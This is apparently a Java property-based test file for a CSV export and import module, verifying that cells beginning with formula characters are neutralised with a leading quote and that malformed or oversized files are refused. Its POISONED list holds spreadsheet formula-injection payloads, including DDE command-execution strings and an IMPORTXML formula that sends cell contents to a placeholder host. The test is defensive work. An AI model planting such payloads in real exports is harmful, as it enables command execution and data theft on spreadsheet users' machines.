package mou.cycle.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import mou.core.cycle.SheetColumn;
import mou.core.cycle.SheetTable;
import mou.cycle.internal.Tables.Read;
import mou.cycle.internal.Tables.Unreadable;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.Size;

/** CSV files are data: what export writes no spreadsheet program runs, and import gives back every text as it was. */
class CsvTest {

    /** What a spreadsheet program takes for the start of a formula (OWASP's list, and the full-width forms). */
    private static final String FORMULA_START = "=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20";

    static final List<String> POISONED = List.of(
            "=HYPERLINK(\"http://x\",\"y\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "@SUM(1)",
            "-2+3",
            "=1+1",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "@cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1",
            "\uFF20SUM(1)",
            "=IMPORTXML(CONCAT(\"http://x/?q=\",A1),\"//a\")",
            "-A1");

    private static final CsvMapper RAW = CsvMapper.builder().enable(CsvParser.Feature.WRAP_AS_ARRAY).build();

    /** The cells of a CSV file exactly as a spreadsheet program gets them (no quote taken off). */
    static List<List<String>> raw(byte[] csv) throws IOException {
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<List<String>> it = RAW.readerForListOf(String.class).with(CsvSchema.emptySchema())
                .readValues(new String(csv, StandardCharsets.UTF_8))) {
            while (it.hasNextValue()) {
                rows.add(it.nextValue());
            }
        }
        return rows;
    }

    static boolean formula(String cell) {
        return !cell.isEmpty() && FORMULA_START.indexOf(cell.charAt(0)) >= 0;
    }

    private static byte[] write(SheetTable table) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Csv.write(table, out);
        return out.toByteArray();
    }

    private static Read read(byte[] csv) throws Exception {
        return Csv.read("t.csv", new ByteArrayInputStream(csv));
    }

    private static List<List<String>> withHeader(List<SheetColumn> columns, List<List<String>> rows) {
        List<List<String>> all = new ArrayList<>();
        all.add(columns.stream().map(SheetColumn::header).toList());
        all.addAll(rows);
        return all;
    }

    @Example
    void everyPoisonedCellOfTheIssueIsWrittenWithAQuoteAndReadBackAsItWas() throws Exception {
        List<SheetColumn> columns = List.of(Tables.fill("Text", 10), Tables.number("Value", 10));
        List<List<String>> rows = POISONED.stream().map(p -> List.of(p, p)).toList();
        byte[] csv = write(new SheetTable("T", columns, rows, 0));

        List<List<String>> cells = raw(csv);
        assertThat(cells).hasSize(POISONED.size() + 1);
        for (int r = 1; r < cells.size(); r++) {
            for (String cell : cells.get(r)) {
                assertThat(formula(cell)).as("row %d: %s", r, cell).isFalse();
                assertThat(cell).isEqualTo("'" + POISONED.get(r - 1));
            }
        }
        assertThat(read(csv).rows()).isEqualTo(withHeader(columns, rows));
    }

    @Example
    void aNegativeNumberInANumberColumnStaysANumberWhileTextStartingWithAMinusIsQuoted() throws Exception {
        List<SheetColumn> columns = List.of(Tables.number("Value", 10), Tables.fill("Note", 10));
        List<List<String>> rows = List.of(List.of("-2", "-2"), List.of("-0.5", "-2+3"), List.of("-2+3", "'quoted"), List.of("12", "'"));
        byte[] csv = write(new SheetTable("T", columns, rows, 0));

        assertThat(raw(csv).subList(1, 5)).containsExactly(List.of("-2", "'-2"), List.of("-0.5", "'-2+3"), List.of("'-2+3", "''quoted"),
                List.of("12", "''"));
        assertThat(read(csv).rows()).isEqualTo(withHeader(columns, rows));
    }

    @Example
    void aByteOrderMarkAsExcelWritesItIsAccepted() throws Exception {
        byte[] csv = "\uFEFFField,Value\r\nYear,2017\r\n".getBytes(StandardCharsets.UTF_8);

        assertThat(read(csv).rows()).containsExactly(List.of("Field", "Value"), List.of("Year", "2017"));
    }

    @Example
    void aRowWithTooFewOrTooManyCellsIsRefusedWithItsRowAndTheWidthExpected() throws Exception {
        byte[] csv = "A,B,C\r\n1,2,3\r\n1,2\r\n1,2,3,4\r\n\r\n".getBytes(StandardCharsets.UTF_8);

        Unreadable e = catchThrowableOfType(() -> read(csv), Unreadable.class);

        assertThat(e.problems()).hasSize(2);
        assertThat(e.problems().get(0)).startsWith("t.csv row 3 has 2 cells; every row has the 3 cells of the header row (A, B, C)");
        assertThat(e.problems().get(1)).startsWith("t.csv row 4 has 4 cells").contains("too many");
    }

    @Example
    void invalidUtf8AndAnUnclosedQuoteAreRefusedWithTheirPlaceAndNoLibraryWords() throws Exception {
        byte[] latin1 = "A,B\r\nJos\u00e9,1\r\n".getBytes(StandardCharsets.ISO_8859_1);
        byte[] unclosed = "A,B\r\n1,\"two\r\n".getBytes(StandardCharsets.UTF_8);

        Unreadable bad = catchThrowableOfType(() -> read(latin1), Unreadable.class);
        Unreadable open = catchThrowableOfType(() -> read(unclosed), Unreadable.class);

        assertThat(bad.problems()).containsExactly("t.csv line 2, column 4: this is not UTF-8 text (byte 0xE9); save the file as CSV UTF-8"
                + " (comma delimited)");
        assertThat(open.problems()).singleElement().asString().startsWith("t.csv is not valid CSV at line")
                .contains("a quoted cell has no closing quote").doesNotContain("Exception", "jackson", "Source");
    }

    @Example
    void aMillionRowsAreRefusedAtTheFirstRowTooMany() throws Exception {
        byte[] header = "Id,Label,Value\r\n".getBytes(StandardCharsets.UTF_8);
        byte[] row = "aq-x,label,1\r\n".getBytes(StandardCharsets.UTF_8);
        byte[] csv = new byte[header.length + 1_000_000 * row.length];
        System.arraycopy(header, 0, csv, 0, header.length);
        for (int i = 0; i < 1_000_000; i++) {
            System.arraycopy(row, 0, csv, header.length + i * row.length, row.length);
        }
        assertThat(csv.length).isGreaterThan(13_000_000);

        long start = System.nanoTime();
        Unreadable e = catchThrowableOfType(() -> read(csv), Unreadable.class);

        assertThat(e.problems()).singleElement().asString().isEqualTo("t.csv has more than 10,000 rows or 50,000 cells; a group's year has"
                + " far fewer, so this is not a CSV file of an export");
        assertThat(System.nanoTime() - start).as("refused at once, not after reading a million rows").isLessThan(5_000_000_000L);
    }

    @Example
    void aFileLargerThanTheLimitIsRefusedWithoutBeingRead() throws Exception {
        byte[] csv = new byte[(int) Tables.LARGEST + 10];

        Unreadable e = catchThrowableOfType(() -> read(csv), Unreadable.class);

        assertThat(e.problems()).singleElement().asString().isEqualTo("t.csv is larger than 20 MB; a group's year is far smaller,"
                + " so this is not a CSV file of an export");
    }

    // properties ---------------------------------------------------------------------------------

    /** Texts as people and attackers write them: formula starts, quotes, commas, line breaks, tabs, any letter of Unicode. */
    @Provide
    Arbitrary<String> texts() {
        Arbitrary<String> any = Arbitraries.strings().all().ofMaxLength(30).filter(s -> s.chars().noneMatch(c -> Character.isSurrogate((char) c)));
        Arbitrary<String> tricky = Arbitraries.strings().withChars("=+-@\t\r\n'\",; \uFF1D\uFF0B\uFF0D\uFF20a1\u00e9\u4e2d")
                .ofMaxLength(12);
        Arbitrary<String> prefixed = Combinators.combine(Arbitraries.of("=", "+", "-", "@", "\t", "\r", "\n", "'", "\"", "''", "\uFF1D",
                "\uFF0B", "\uFF0D", "\uFF20", " =", ""), any).as(String::concat);
        Arbitrary<String> emoji = Arbitraries.of("\uD83D\uDE00", "=\uD83D\uDE00", "\uD83D\uDE00\r\n=1");
        return Arbitraries.oneOf(any, tricky, prefixed, emoji);
    }

    @Provide
    Arbitrary<List<List<String>>> tables() {
        return Arbitraries.integers().between(2, 5).flatMap(width ->
                texts().list().ofSize(width).list().ofMaxSize(8));
    }

    @Property(tries = 250)
    void exportThenImportGivesBackEveryTextAndNoExportedCellStartsAFormula(@ForAll("tables") List<List<String>> rows) throws Exception {
        int width = rows.isEmpty() ? 3 : rows.get(0).size();
        List<SheetColumn> columns = new ArrayList<>();
        for (int c = 0; c < width; c++) {
            columns.add(Tables.fill("Column " + c, 10));
        }
        byte[] csv = write(new SheetTable("T", columns, rows, 0));

        for (List<String> row : raw(csv)) {
            assertThat(row).noneMatch(CsvTest::formula);
        }
        assertThat(read(csv).rows()).isEqualTo(withHeader(columns, rows));
    }

    @Property(tries = 200)
    void numbersInANumberColumnStayPlainNumbersAndComeBackAsWritten(@ForAll @Size(max = 6) List<BigDecimal> numbers,
            @ForAll("texts") String text) throws Exception {
        List<SheetColumn> columns = List.of(Tables.number("Value", 10), Tables.fill("Note", 10));
        List<List<String>> rows = numbers.stream().map(n -> List.of(YearSheets.number(n), text)).toList();
        byte[] csv = write(new SheetTable("T", columns, rows, 0));

        List<List<String>> cells = raw(csv);
        for (int r = 1; r < cells.size(); r++) {
            assertThat(cells.get(r).get(0)).as("a number is written as the number").isEqualTo(rows.get(r - 1).get(0));
            assertThat(new BigDecimal(cells.get(r).get(0))).isEqualByComparingTo(numbers.get(r - 1));
            assertThat(formula(cells.get(r).get(1))).isFalse();
        }
        assertThat(read(csv).rows()).isEqualTo(withHeader(columns, rows));
    }
}
